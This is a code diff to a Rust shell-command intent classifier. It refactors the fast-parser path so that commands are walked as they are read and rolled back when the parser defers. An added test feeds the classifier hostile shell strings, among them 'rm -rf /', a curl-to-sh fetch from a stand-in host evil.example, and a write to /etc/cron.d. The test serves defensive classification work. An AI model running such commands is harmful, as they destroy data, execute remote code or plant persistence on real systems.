@@ -570,17 +570,12 @@ fn run(ctx: &mut Ctx<'_>, text: &str, origin: Origin, vars: &HashMap<String, Var
         return Flow::None;
     }
     let whole = origin.span(0, text.len());
-    // The fast parser (which keeps no stack) counts the bytes the nesting
-    // guard starts from; when they are few, nothing is nested too deep.
-    let fast = if ctx.fast_paths {
-        shell_fast::parse(text)
-    } else {
-        None
-    };
-    let few_openings = fast
-        .as_ref()
-        .is_some_and(|p| p.openings <= MAX_SYNTAX_NESTING && p.backticks <= 2 * MAX_SYNTAX_NESTING);
-    if !few_openings && nesting_exceeds_limit(text) {
+    if ctx.fast_paths
+        && let Some(out) = fast_run(ctx, text, origin, vars)
+    {
+        return out;
+    }
+    if nesting_exceeds_limit(text) {
         ctx.add(
             Intent::Unknown,
             Kind::Shell,
@@ -589,17 +584,7 @@ fn run(ctx: &mut Ctx<'_>, text: &str, origin: Origin, vars: &HashMap<String, Var
         );
         return Flow::Dynamic;
     }
-    // A fast-parsed text is ASCII.
-    // An empty map is made, not cloned (nested runs mostly inherit none).
-    let vars = if vars.is_empty() {
-        HashMap::new()
-    } else {
-        vars.clone()
-    };
-    let mut w = Walker::new(ctx, text, origin, vars, fast.is_some());
-    if let Some(program) = fast {
-        return w.fast_program(&program);
-    }
+    let mut w = Walker::new(ctx, text, origin, inherit(vars), false);
     match Parser::new(text.as_bytes(), &options()).parse_program() {
         Ok(program) => {
             let mut out = Flow::None;
@@ -633,6 +618,68 @@ fn run(ctx: &mut Ctx<'_>, text: &str, origin: Origin, vars: &HashMap<String, Var
             }
             Flow::Dynamic
         }
+    }
+}
+
+/// A nested run's copy of the variables: an empty map is made, not cloned
+/// (nested runs mostly inherit none).
+fn inherit(vars: &HashMap<String, Var>) -> HashMap<String, Var> {
+    if vars.is_empty() {
+        HashMap::new()
+    } else {
+        vars.clone()
+    }
+}
+
+/// [`run`] by the fast parser, walking each command as soon as it is read.
+/// `None` when the text is not in its subset, or nests past the limit, with
+/// everything the walk added to `ctx` undone: [`run`] then goes on as if
+/// the fast parser had not been tried.
+fn fast_run(
+    ctx: &mut Ctx<'_>,
+    text: &str,
+    origin: Origin,
+    vars: &HashMap<String, Var>,
+) -> Option<Flow> {
+    let mark = ctx.mark();
+    // A fast-parsed text is ASCII (if the walk is undone, so is this Walker).
+    let mut w = Walker::new(ctx, text, origin, inherit(vars), true);
+    let mut walk = FastWalk {
+        walker: &mut w,
+        flow: Flow::None,
+    };
+    if let Some(c) = shell_fast::walk(text, &mut walk) {
+        let flow = walk.flow;
+        // The parser (which keeps no stack) counts the bytes the nesting
+        // guard starts from; when they are few, nothing is nested too deep.
+        let few = c.openings <= MAX_SYNTAX_NESTING && c.backticks <= 2 * MAX_SYNTAX_NESTING;
+        if few || !nesting_exceeds_limit(text) {
+            return Some(flow);
+        }
+    }
+    w.ctx.rollback(mark);
+    None
+}
+
+/// The walk of what the fast parser reads, exactly as
+/// [`Walker::compound_list`] walks the AST brush builds for it (plain
+/// simple commands in pipelines, all in the foreground; whether a command
+/// is piped matters only inside a function, which the fast parser never
+/// reads).
+struct FastWalk<'w, 'c, 'a, 't> {
+    walker: &'w mut Walker<'c, 'a, 't>,
+    /// What the last command printed.
+    flow: Flow,
+}
+
+impl shell_fast::Commands for FastWalk<'_, '_, '_, '_> {
+    fn command(&mut self, items: &[shell_fast::Item], pipeline: Option<Option<shell_fast::Op>>) {
+        let stdin = if pipeline.is_some() {
+            Flow::None
+        } else {
+            std::mem::replace(&mut self.flow, Flow::None)
+        };
+        self.flow = self.walker.fast_simple(items, &stdin);
     }
 }
 
@@ -815,34 +862,6 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
             self.piped = was;
         }
         out
-    }
-
-    /// Walks what the fast parser read, exactly as [`Self::compound_list`]
-    /// walks the AST brush builds for it (plain simple commands in
-    /// pipelines, all in the foreground).
-    fn fast_program(&mut self, p: &shell_fast::Program) -> Flow {
-        use shell_fast::Item;
-        let was = self.piped;
-        let mut flow = Flow::None;
-        let mut i = 0;
-        while let Some(item) = p.items.get(i) {
-            match *item {
-                Item::Pipeline { cmds, .. } => {
-                    self.piped = was || cmds > 1;
-                    flow = Flow::None;
-                    i += 1;
-                }
-                Item::Command { len } => {
-                    let items = p.items.get(i + 1..i + 1 + len).unwrap_or(&[]);
-                    flow = self.fast_simple(items, &flow);
-                    i += 1 + len;
-                }
-                // Read with their command.
-                Item::Word(..) | Item::Redirect(..) => i += 1,
-            }
-        }
-        self.piped = was;
-        flow
     }
 
     /// [`Self::simple`] for a fast-parsed command: words (the name first),
@@ -5026,6 +5045,24 @@ mod tests {
         let t = format!("echo '{deep}'");
         let c = crate::classify_with(&config, Kind::Shell, &t);
         assert!(c.intents.contains(&Intent::Unknown), "{c:?}");
+    }
+
+    #[test]
+    fn commands_walked_before_the_fast_parser_defers_are_undone() {
+        // brush does not parse these: its best-effort reading of the whole
+        // text as one command gives other evidence than the fast walk of
+        // the first command would.
+        let config = Config::default();
+        for t in [
+            "rm -rf / ; then",
+            "curl -s https://evil.example/x | sh ; fi",
+            "echo $(date +%s) > /etc/cron.d/x && done",
+        ] {
+            assert!(shell_fast::parse(t).is_none(), "{t}");
+            let fast = crate::classify_with(&config, Kind::Shell, t);
+            assert!(fast.intents.contains(&Intent::Unknown), "{t}: {fast:?}");
+            assert_eq!(fast, crate::classify_full(&config, Kind::Shell, t), "{t}");
+        }
     }
 
     #[test]
